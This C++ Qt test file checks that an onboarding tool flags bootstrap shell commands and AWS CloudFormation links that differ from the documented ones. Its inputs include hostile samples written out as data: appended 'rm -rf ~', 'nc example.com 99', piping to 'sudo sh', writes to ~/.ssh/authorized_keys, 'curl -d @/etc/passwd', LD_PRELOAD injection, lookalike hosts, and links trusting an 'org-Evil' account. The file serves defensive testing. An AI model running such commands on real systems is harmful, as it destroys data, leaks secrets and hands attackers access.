// SPDX-FileCopyrightText: 2026 BYOC Onboarding contributors
// SPDX-License-Identifier: Apache-2.0

// What the Grant page says about commands and links that are not as documented.

#include "cloud/CommandComparison.h"
#include "cloud/CloudCatalogue.h"
#include "text/VisibleText.h"

#include <QElapsedTimer>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace byoc;

namespace {

const QString base = u"https://api.omnistrate.cloud/2022-09-01-00"_s;

GrantFacts factsFor(const QString &cloudId, const QString &command)
{
    GrantFacts facts;
    facts.accountConfigId = u"ac-AbC123"_s;
    facts.organizationId = u"org-Xyz789"_s;
    facts.controlPlane = base;
    const QMap<QString, QString> keys{
        {u"aws"_s, u"cloudformation_url"_s},
        {u"gcp"_s, u"gcp_bootstrap_shell_script"_s},
        {u"azure"_s, u"azure_bootstrap_shell_script"_s},
        {u"oci"_s, u"oci_bootstrap_shell_script"_s},
        {u"byoc-onprem"_s, u"byoc_onprem_install_command"_s},
    };
    facts.resultParams = {{keys.value(cloudId), command}};
    return facts;
}

/// What is said about the command, or the link, that came from outside.
CommandDifferences differencesOf(const QString &cloudId, const QString &command)
{
    const CloudCatalogue clouds;
    const GrantGuide guide = clouds.find(cloudId)->grantGuide(factsFor(cloudId, command));
    CommandDifferences all;
    for (const GrantMethod &method : guide.methods) {
        for (const GrantStep &step : method.steps) {
            if (all.isEmpty())
                all = step.differences;
        }
    }
    return all;
}

QString script(const QString &cloudId)
{
    return u"bash -c \"$(curl -fsSL '%1/account-setup/%2-bootstrap.sh?account_config_id=ac-AbC123')\""_s
        .arg(base, cloudId);
}

const QString installer =
    u"bash -c 'd=$(mktemp -d) && curl -fsSL "
    u"\"https://api.omnistrate.cloud/2022-09-01-00/account-setup/"
    "byoc-onprem?account_config_id=ac-AbC123\" | tar -xf - -C \"$d\" && bash \"$d/install.sh\"'"_s;

const QString quickCreate =
    u"https://us-east-1.console.aws.amazon.com/cloudformation/home?region=us-east-1"
    "#/stacks/quickcreate?templateURL=https://s3.amazonaws.com/omnistrate-cloudformation/"
    "org-Xyz789/account-config-setup-template.yaml&stackName=AccountConfigSetup"
    "&param_AccountConfigIdentityId=org-Xyz789"
    "&param_OIDCIssuerURLWithoutPrefix=oidc.eks.us-west-2.amazonaws.com/id/"
    "9AEF0C846C22DEAEFDDD1F98C6AB9FEA"
    "&param_OIDCIssuerThumbprintList=9e99a48a9960b14926bb7f3b02e22da2b0ab7280"
    "&param_ServiceAccount=bootstrap-sa"_s;

QString changed(QString text, const QString &before, const QString &after)
{
    Q_ASSERT(text.contains(before));
    return text.replace(before, after);
}

} // namespace

class CommandComparisonTest : public QObject
{
    Q_OBJECT

private slots:
    void documentedOnesGiveNothing_data();
    void documentedOnesGiveNothing();
    void tamperedOnesGiveRemarks_data();
    void tamperedOnesGiveRemarks();
    void partsAreMarked();
    void remarksAreSafeToShow();
    void longOnesAreQuick();
    void linksThatLeadElsewhereAreNotOpened_data();
    void linksThatLeadElsewhereAreNotOpened();
    void secondLinkIsCompared_data();
    void secondLinkIsCompared();
    void secondTemplateIsCompared();
    void terraformNamesWhomItTrusts();
};

void CommandComparisonTest::documentedOnesGiveNothing_data()
{
    QTest::addColumn<QString>("cloud");
    QTest::addColumn<QString>("command");

    const auto row = [](const char *name, const QString &cloud, const QString &command) {
        QTest::newRow(name) << cloud << command;
    };
    for (const char *cloud : {"gcp", "azure", "oci"})
        row(cloud, QString::fromLatin1(cloud), script(QString::fromLatin1(cloud)));
    row("no quotes around the address", u"gcp"_s, script(u"gcp"_s).remove(u'\''));
    row("double quotes around the address", u"azure"_s, script(u"azure"_s).replace(u'\'', u'"'));
    row("more blanks", u"oci"_s, u"  "_s + script(u"oci"_s).replace(u" "_s, u"  "_s) + u"\n"_s);
    row("over two lines", u"gcp"_s, script(u"gcp"_s).replace(u" -fsSL"_s, u" \\\n  -fsSL"_s));
    row("Kubernetes", u"byoc-onprem"_s, installer);
    row("AWS", u"aws"_s, quickCreate);
    row("AWS without the policy", u"aws"_s,
        quickCreate + u"&param_CreateLoadBalancerPolicy=false"_s);
    row("AWS, older name of the stack", u"aws"_s,
        changed(quickCreate, u"=AccountConfigSetup"_s, u"=OmnistrateAccountConfigSetup"_s));
    row("AWS, two thumbprints", u"aws"_s,
        changed(quickCreate, u"&param_Service"_s,
                u"%2C06b25927c42a721631c1efd9431e648fa62e1e39&param_Service"_s));
    row("AWS, older page", u"aws"_s, changed(quickCreate, u"quickcreate"_s, u"create/review"_s));
    row("AWS, governance", u"aws"_s,
        quickCreate
            + u"&param_K8sDebugAccessEnabled=false&param_AgentInfrastructureMutationEnabled=true"_s);
    row("AWS, only the template", u"aws"_s,
        u"https://s3.amazonaws.com/omnistrate-cloudformation/org-Xyz789/"
        "account-config-setup-template-no-lb-policy.yaml"_s);
}

void CommandComparisonTest::documentedOnesGiveNothing()
{
    QFETCH(QString, cloud);
    QFETCH(QString, command);
    const CloudCatalogue clouds;
    const GrantGuide guide = clouds.find(cloud)->grantGuide(factsFor(cloud, command));
    for (const GrantMethod &method : guide.methods) {
        for (const GrantStep &step : method.steps)
            QCOMPARE(step.alternativeDifferences.remarks.join(u'\n'), QString());
    }
    const CommandDifferences differences = differencesOf(cloud, command);
    QCOMPARE(differences.remarks.join(u'\n'), QString());
    QCOMPARE(differences.marked, QString());
}

void CommandComparisonTest::tamperedOnesGiveRemarks_data()
{
    QTest::addColumn<QString>("cloud");
    QTest::addColumn<QString>("command");
    QTest::addColumn<QStringList>("expected"); ///< each is in some remark

    const QString gcp = script(u"gcp"_s);
    const auto row = [](const char *name, const QString &cloud, const QString &command,
                        const QStringList &expected) {
        QTest::newRow(name) << cloud << command << expected;
    };
    const auto inGcp = [&](const char *name, const QString &before, const QString &after,
                           const QStringList &expected) {
        row(name, u"gcp"_s, changed(gcp, before, after), expected);
    };
    const QString host = u"api.omnistrate.cloud"_s;

    // --- the address
    inGcp("another host", host, u"api.omnistrate.cloud.example.com"_s,
          {u"loads from api.omnistrate.cloud.example.com"_s, u"from api.omnistrate.cloud."_s});
    inGcp("host as a user name", host, u"api.omnistrate.cloud@example.com"_s,
          {u"loads from example.com"_s, u"user name"_s});
    inGcp("another letter in the host", host, u"api.omnistrate.cl\u043Eud"_s, {u"loads from"_s});
    inGcp("hidden character in the host", host, u"api.omni\u200Bstrate.cloud"_s,
          {u"cannot be seen"_s});
    inGcp("no encryption", u"https://"_s, u"http://"_s, {u"without encryption"_s});
    inGcp("another scheme", u"https://"_s, u"ftp://"_s, {u"by ftp instead of https"_s});
    inGcp("another port", host, host + u":8443"_s, {u"another port (8443)"_s});
    inGcp("another path", u"gcp-bootstrap.sh"_s, u"gcp-offboard.sh"_s,
          {u"gcp-offboard.sh"_s, u"gcp-bootstrap.sh"_s});
    inGcp("another account", u"ac-AbC123"_s, u"ac-Evil"_s, {u"account_config_id=ac-Evil"_s});
    inGcp("further parameters", u"ac-AbC123"_s, u"ac-AbC123&x=1"_s, {u"x=1"_s});
    inGcp("address of a variable", u"https://api.omnistrate.cloud"_s, u"$HOST"_s, {u"$HOST"_s});
    inGcp("a second address", u"ac-AbC123'"_s, u"ac-AbC123' 'https://example.com/x.sh'"_s,
          {u"also connects to example.com"_s});

    // --- further commands
    row("semicolon", u"gcp"_s, gcp + u"; rm -rf ~"_s,
        {u"“;” starts a further command"_s, u"runs “rm”"_s, u"“-rf”"_s});
    row("and", u"gcp"_s, gcp + u" && id"_s, {u"“&&” starts"_s, u"runs “id”"_s});
    row("or", u"gcp"_s, gcp + u" || id"_s, {u"“||” starts"_s, u"runs “id”"_s});
    row("in the background", u"gcp"_s, u"nc example.com 99 & "_s + gcp,
        {u"“&” starts"_s, u"runs “nc”"_s});
    row("new line", u"gcp"_s, gcp + u"\nid"_s, {u"A new line starts"_s, u"runs “id”"_s});
    row("pipe", u"gcp"_s, gcp + u" | sudo sh"_s,
        {u"“|” hands"_s, u"runs “sudo”"_s, u"runs “sh”"_s});
    row("substitution", u"gcp"_s, gcp + u" $(id)"_s, {u"“$(” runs a further"_s, u"runs “id”"_s});
    row("backquotes", u"gcp"_s, gcp + u" `id`"_s, {u"“`” runs a further"_s, u"runs “id”"_s});
    row("process substitution", u"gcp"_s, gcp + u" <(id)"_s, {u"“<(” runs a further"_s});
    inGcp("inside the quotes", u"')\""_s, u"'; id)\""_s, {u"“;” starts"_s, u"runs “id”"_s});
    row("before it", u"gcp"_s, u"id; "_s + gcp, {u"runs “id”"_s});

    // --- redirections and variables
    row("writes", u"gcp"_s, gcp + u" > ~/.bashrc"_s, {u"“>” writes into a file"_s, u"~/.bashrc"_s});
    row("appends", u"gcp"_s, gcp + u" >> ~/.ssh/authorized_keys"_s, {u"“>>” writes"_s});
    row("reads", u"gcp"_s, gcp + u" < /etc/passwd"_s, {u"“<” reads"_s});
    row("sets a variable", u"gcp"_s, u"LD_PRELOAD=/tmp/x.so "_s + gcp,
        {u"sets a variable: “LD_PRELOAD=/tmp/x.so”"_s});

    // --- other programs and options
    inGcp("another program", u"curl"_s, u"wget"_s, {u"runs “wget”"_s, u"“curl” of the"_s});
    inGcp("another shell", u"bash -c"_s, u"sudo bash -c"_s, {u"runs “sudo”"_s});
    inGcp("another option", u"-fsSL"_s, u"-fsSLk"_s, {u"“-fsSLk” is not"_s, u"“-fsSL” of the"_s});
    inGcp("one option more", u"-fsSL"_s, u"-fsSL --insecure"_s, {u"“--insecure” is not"_s});
    inGcp("proxy", u"-fsSL"_s, u"-fsSL -x example.com:3128"_s,
          {u"“-x” is not"_s, u"“example.com:3128” is not"_s});
    inGcp("sends a file", u"-fsSL"_s, u"-fsSL -d @/etc/passwd"_s, {u"“@/etc/passwd” is not"_s});
    inGcp("option missing", u" -fsSL"_s, u""_s,
          {u"“-fsSL” of the documented command is missing"_s});
    inGcp("quotes that change the meaning", u"\"$("_s, u"'$("_s, {u"in another way"_s});
    inGcp("odd space", u" -c "_s, u"\u00a0-c "_s, {u"It runs “bash"_s});
    row("bidirectional override", u"gcp"_s, gcp + u" # \u202Ehs.tratsni"_s, {u"cannot be seen"_s});
    row("terminal escape", u"gcp"_s, gcp + u"\x1b[2K"_s, {u"cannot be seen"_s});
    row("something else altogether", u"gcp"_s, u"python3 -c 'import os'"_s,
        {u"runs “python3”"_s, u"“curl” of the documented command is missing"_s});
    row("far too long", u"gcp"_s, gcp + QString(5000, u' ') + QString(5000, u'x'),
        {u"far longer"_s});
    row("another cloud's script", u"azure"_s, gcp, {u"azure-bootstrap.sh"_s});

    // --- the installer for a cluster
    row("kit from another host", u"byoc-onprem"_s, changed(installer, host, u"example.com"_s),
        {u"loads from example.com"_s});
    row("kit run as root", u"byoc-onprem"_s, changed(installer, u"&& bash"_s, u"&& sudo bash"_s),
        {u"runs “sudo”"_s});
    row("kit unpacked elsewhere", u"byoc-onprem"_s, changed(installer, u"-C \"$d\""_s, u"-C /"_s),
        {u"“/” is not"_s});
    row("kit, absolute names kept", u"byoc-onprem"_s, changed(installer, u"-xf -"_s, u"-xPf -"_s),
        {u"“-xPf” is not"_s});
    row("another script", u"byoc-onprem"_s, changed(installer, u"install.sh"_s, u"other.sh"_s),
        {u"other.sh"_s});
    row("a command in between", u"byoc-onprem"_s,
        changed(installer, u"&& bash"_s, u"&& chmod 777 / && bash"_s), {u"runs “chmod”"_s});

    // --- the link to CloudFormation
    const auto inAws = [&](const char *name, const QString &before, const QString &after,
                           const QStringList &expected) {
        row(name, u"aws"_s, changed(quickCreate, before, after), expected);
    };
    inAws("another console", u"console.aws.amazon.com"_s, u"console.example.com"_s,
          {u"does not lead to the AWS console"_s});
    inAws("host that may be opened, but is no console", u"us-east-1.console.aws.amazon.com"_s,
          u"github.com"_s, {u"does not lead to the AWS console"_s});
    inAws("template in another bucket", u"/omnistrate-cloudformation/"_s,
          u"/omnistrate-cloudf0rmation/"_s, {u"The template comes from"_s});
    inAws("template through the parent", u"omnistrate-cloudformation/org-Xyz789/"_s,
          u"omnistrate-cloudformation/../evil/"_s, {u"The template comes from"_s});
    inAws("template of another host", u"s3.amazonaws.com"_s, u"s3.amazonaws.com.example.com"_s,
          {u"The template comes from"_s});
    inAws("another organization", u"org-Xyz789"_s, u"org-Evil"_s,
          {u"would trust the organization org-Evil, not org-Xyz789"_s});
    inAws("template of another organization", u"cloudformation/org-Xyz789"_s,
          u"cloudformation/org-Evil"_s, {u"made for the organization org-Evil"_s});
    inAws("another name", u"AccountConfigSetup"_s, u"Harmless"_s, {u"named “Harmless”"_s});
    inAws("another issuer", u"oidc.eks.us-west-2.amazonaws.com"_s, u"oidc.example.com"_s,
          {u"OIDCIssuerURLWithoutPrefix"_s, u"oidc.example.com"_s});
    inAws("another service account", u"bootstrap-sa"_s, u"default"_s, {u"“default”"_s});
    inAws("unknown parameter", u"&stackName"_s, u"&param_AdminRole=x&stackName"_s,
          {u"“AdminRole” is not documented"_s});
    inAws("a parameter that no template can have", u"&stackName"_s,
          u"&param_Admin_Role=x&stackName"_s, {u"“Admin_Role” is not documented"_s});
    inAws("another page of the console", u"/cloudformation/home"_s, u"/iam/home"_s,
          {u"another page of the AWS console"_s});
    inAws("another route", u"/stacks/quickcreate"_s, u"/roles$new"_s,
          {u"another page of the AWS console"_s});
    inAws("another port", u".aws.amazon.com"_s, u".aws.amazon.com:8443"_s,
          {u"does not lead to the AWS console"_s});
    inAws("nobody to trust", u"&param_AccountConfigIdentityId=org-Xyz789"_s, {},
          {u"“AccountConfigIdentityId” of the documented link is missing"_s});
    inAws("nobody to trust, template of another organization",
          u"org-Xyz789/account-config-setup-template.yaml&stackName=AccountConfigSetup"
          "&param_AccountConfigIdentityId=org-Xyz789"_s,
          u"org-Evil/account-config-setup-template.yaml&stackName=AccountConfigSetup"_s,
          {u"“AccountConfigIdentityId” of the documented link is missing"_s,
           u"made for the organization org-Evil, not for org-Xyz789"_s});
    inAws("no issuer", u"param_OIDCIssuerURLWithoutPrefix"_s, u"param_EnableECRHelmChartPull"_s,
          {u"“OIDCIssuerURLWithoutPrefix” of the documented link is missing"_s});
    row("a second template", u"aws"_s,
        quickCreate + u"&templateURL=https://example.com/template.yaml"_s,
        {u"says “templateURL” more than once"_s});
    row("a second template, encoded", u"aws"_s,
        quickCreate + u"&template%55RL=https://example.com/template.yaml"_s,
        {u"says “templateURL” more than once"_s});
    inAws("trusts two", u"&param_Account"_s,
          u"&param_AccountConfigIdentityId=org-Evil&param_Account"_s,
          {u"says “param_AccountConfigIdentityId” more than once"_s});
    row("something else in it", u"aws"_s, quickCreate + u"&own=1"_s,
        {u"“own” in the link is not documented"_s});
    row("bare template from elsewhere", u"aws"_s, u"https://example.com/template.yaml"_s,
        {u"The template comes from “https://example.com/template.yaml”"_s});
}

void CommandComparisonTest::tamperedOnesGiveRemarks()
{
    QFETCH(QString, cloud);
    QFETCH(QString, command);
    QFETCH(QStringList, expected);
    const CommandDifferences differences = differencesOf(cloud, command);
    QVERIFY(!differences.isEmpty());
    const QString all = differences.remarks.join(u'\n');
    for (const QString &text : expected)
        QVERIFY2(all.contains(text), qPrintable(all));
    for (const QString &remark : differences.remarks)
        QVERIFY2(remark.endsWith(u'.'), qPrintable(remark));
}

void CommandComparisonTest::partsAreMarked()
{
    const QString known = u"bash -c \"$(curl -fsSL 'https://a.example/x')\""_s;
    QCOMPARE(compareCommand(known, known + u"; rm -rf ~"_s).marked,
             u"bash -c \"$(curl -fsSL https://a.example/x)\"⟦; rm -rf ~⟧"_s);
    QCOMPARE(compareCommand(known, u"bash -c \"$(curl -k -fsSL https://b.example/x)\""_s).marked,
             u"bash -c \"$(curl ⟦-k⟧ -fsSL ⟦https://b.example/x⟧)\""_s);
    QCOMPARE(compareCommand(known, u"bash -c \"$(curl https://a.example/x)\""_s).marked, QString());
}

void CommandComparisonTest::remarksAreSafeToShow()
{
    const QString odd = u"<b>\u202E\x1b[31m"_s + QString(1000, u'l');
    for (const QString &cloud : {u"gcp"_s, u"byoc-onprem"_s, u"aws"_s}) {
        const CommandDifferences differences =
            differencesOf(cloud, odd + u"; "_s + odd + u" https://"_s + odd);
        for (const QString &remark : differences.remarks) {
            QVERIFY(!hasHiddenCharacters(remark));
            QVERIFY2(remark.size() < 500, qPrintable(remark));
        }
        QString marked = differences.marked;
        QVERIFY(!hasHiddenCharacters(marked.remove(u'\n')));
    }
}

void CommandComparisonTest::longOnesAreQuick()
{
    QElapsedTimer timer;
    timer.start();
    QVERIFY(!differencesOf(u"gcp"_s, u"; a"_s.repeated(1300)).isEmpty());
    QVERIFY(differencesOf(u"gcp"_s, u"; a"_s.repeated(1'000'000)).marked.isEmpty());
    QVERIFY2(timer.elapsed() < 5000, qPrintable(QString::number(timer.elapsed())));
}

void CommandComparisonTest::linksThatLeadElsewhereAreNotOpened_data()
{
    QTest::addColumn<QString>("before");
    QTest::addColumn<QString>("after");
    QTest::addColumn<bool>("isOpened");
    const auto row = [](const char *name, const QString &before, const QString &after,
                        bool isOpened) { QTest::newRow(name) << before << after << isOpened; };
    const QString host = u"us-east-1.console.aws.amazon.com"_s;
    row("the console", host, host, true);
    row("without region", host, u"console.aws.amazon.com"_s, true);
    row("another host", host, u"example.com"_s, false);
    row("one that we link to ourselves", host, u"github.com"_s, false);
    row("looks alike", host, u"evilconsole.aws.amazon.com"_s, false);
    row("user name", host, u"example.com@"_s + host, false);
    row("port", host, host + u":8443"_s, false);

    const QString page = u"/cloudformation/home?region=us-east-1"_s;
    row("region not said", page, u"/cloudformation/home"_s, true);
    row("another service", page, u"/iam/home?region=us-east-1"_s, false);
    row("through the parent", page, u"/cloudformation/home/../../iam/home"_s, false);
    row("below the page", page, u"/cloudformation/home/x"_s, false);
    row("more in the query", page, page + u"&x=1"_s, false);

    const QString route = u"#/stacks/quickcreate?"_s;
    row("older route", route, u"#/stacks/create/review?"_s, true);
    row("another route", route, u"#/stacks/update?"_s, false);
    row("route to a role", route, u"#/roles$new?"_s, false);
    row("longer route", route, u"#/stacks/quickcreate/x?"_s, false);
}

void CommandComparisonTest::linksThatLeadElsewhereAreNotOpened()
{
    QFETCH(QString, before);
    QFETCH(QString, after);
    QFETCH(bool, isOpened);
    const CloudCatalogue clouds;
    GrantFacts facts = factsFor(u"aws"_s, changed(quickCreate, before, after));
    const GrantGuide guide = clouds.find(u"aws"_s)->grantGuide(facts);
    const GrantStep &open = guide.methods.constFirst().steps.constFirst();
    QCOMPARE(!open.link.isEmpty(), isOpened);
    QCOMPARE(open.command.isEmpty(), isOpened); // shown instead
    QCOMPARE(open.differences.isEmpty(), isOpened);

    facts = factsFor(u"aws"_s, quickCreate);
    facts.resultParams.insert(u"cloudformation_url_no_lb"_s,
                              changed(quickCreate, before, after)
                                  + u"&param_CreateLoadBalancerPolicy=false"_s);
    const GrantGuide second = clouds.find(u"aws"_s)->grantGuide(facts);
    QCOMPARE(!second.methods.constFirst().steps.constLast().alternativeLink.isEmpty(), isOpened);
}

void CommandComparisonTest::secondLinkIsCompared_data()
{
    QTest::addColumn<QString>("second");
    QTest::addColumn<QString>("expected"); ///< in some remark; empty: there is none

    const QString honest = quickCreate + u"&param_CreateLoadBalancerPolicy=false"_s;
    QTest::newRow("honest") << honest << QString();
    QTest::newRow("template from elsewhere")
        << u"https://us-east-1.console.aws.amazon.com/cloudformation/home?region=us-east-1"
           "#/stacks/quickcreate?templateURL=https://evil.s3.amazonaws.com/t.yaml"
           "&stackName=AccountConfigSetup&param_AccountConfigIdentityId=org-evil"_s
        << u"The template comes from “https://evil.s3.amazonaws.com/t.yaml”"_s;
    QTest::newRow("trusts another organization")
        << changed(honest, u"Id=org-Xyz789"_s, u"Id=org-evil"_s)
        << u"would trust the organization org-evil"_s;
    QTest::newRow("something else in it")
        << QString(honest + u"&own=1"_s) << u"“own” in the link is not documented"_s;
}

void CommandComparisonTest::secondLinkIsCompared()
{
    QFETCH(QString, second);
    QFETCH(QString, expected);
    const CloudCatalogue clouds;
    GrantFacts facts = factsFor(u"aws"_s, quickCreate);
    facts.resultParams.insert(u"cloudformation_url_no_lb"_s, second);
    const GrantGuide guide = clouds.find(u"aws"_s)->grantGuide(facts);
    QCOMPARE(guide.methods.size(), 3);
    // Both offer the second one in their second step.
    for (const GrantMethod &method : guide.methods.first(2)) {
        for (const GrantStep &step : method.steps)
            QCOMPARE(step.differences.remarks.join(u'\n'), QString());
        const GrantStep &create = method.steps.at(1);
        QVERIFY(!create.alternativeLabel.isEmpty());
        const QString remarks = create.alternativeDifferences.remarks.join(u'\n');
        QCOMPARE(remarks.isEmpty(), expected.isEmpty());
        QVERIFY2(remarks.contains(expected), qPrintable(remarks));
    }
}

void CommandComparisonTest::secondTemplateIsCompared()
{
    const QString honest = u"https://s3.amazonaws.com/omnistrate-cloudformation/org-Xyz789/"
                           "account-config-setup-template.yaml"_s;
    const QString noPolicy = changed(honest, u".yaml"_s, u"-no-lb-policy.yaml"_s);
    const CloudCatalogue clouds;
    GrantFacts facts = factsFor(u"aws"_s, honest);
    const auto stepWith = [&](const QString &second) {
        facts.resultParams.insert(u"cloudformation_url_no_lb"_s, second);
        return clouds.find(u"aws"_s)->grantGuide(facts).methods.constFirst().steps.constFirst();
    };
    QVERIFY(stepWith(noPolicy).alternativeDifferences.isEmpty());
    const GrantStep step = stepWith(changed(noPolicy, u"org-Xyz789"_s, u"org-Evil"_s));
    QVERIFY(step.differences.isEmpty());
    QVERIFY(step.alternativeDifferences.remarks.join(u'\n').contains(
        u"made for the organization org-Evil"_s));
}

// It takes the identity from the link.
void CommandComparisonTest::terraformNamesWhomItTrusts()
{
    const CloudCatalogue clouds;
    const auto stepFor = [&clouds](const QString &link) {
        const GrantGuide guide = clouds.find(u"aws"_s)->grantGuide(factsFor(u"aws"_s, link));
        return guide.methods.constLast().steps.constLast();
    };
    QVERIFY(stepFor(quickCreate).command.contains(u"=org-Xyz789 terraform apply"_s));
    QVERIFY(stepFor(quickCreate).differences.isEmpty());
    const GrantStep step = stepFor(changed(quickCreate, u"Id=org-Xyz789"_s, u"Id=org-Evil"_s));
    QVERIFY(step.command.contains(u"=org-Evil terraform apply"_s));
    QVERIFY(step.differences.remarks.join(u'\n').contains(
        u"would trust the organization org-Evil, not org-Xyz789"_s));
}

QTEST_GUILESS_MAIN(CommandComparisonTest)
#include "CommandComparisonTest.moc"
